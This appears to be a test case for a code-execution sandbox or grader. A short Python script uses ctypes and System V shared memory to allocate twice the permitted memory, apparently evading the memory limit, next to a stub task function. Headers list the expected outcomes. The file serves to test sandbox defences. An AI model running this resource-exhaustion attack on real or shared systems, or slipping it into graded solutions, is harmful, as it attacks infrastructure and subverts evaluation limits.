# attack: fills twice the memory that it may have, in System V shared memory
# kind: resources
# task: plain
# official: crash|fail
# strict: fail|forged|suspect
# expect: it counts, and is gone afterwards
import ctypes
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p


def flood():
    size = 64 << 20
    for _ in range(2 * __LIMIT_MEMORY_MIB__ // 64):
        segment = libc.shmget(0, ctypes.c_size_t(size), 0o1600)
        if segment == -1:
            return False
        address = libc.shmat(segment, None, 0)
        libc.shmctl(segment, 0, None)  # gone with the last process that has it
        ctypes.memset(address, 1, size)
    time.sleep(2)
    return True


WON = flood()


def task_func(n):
    return n * 2 if WON else None
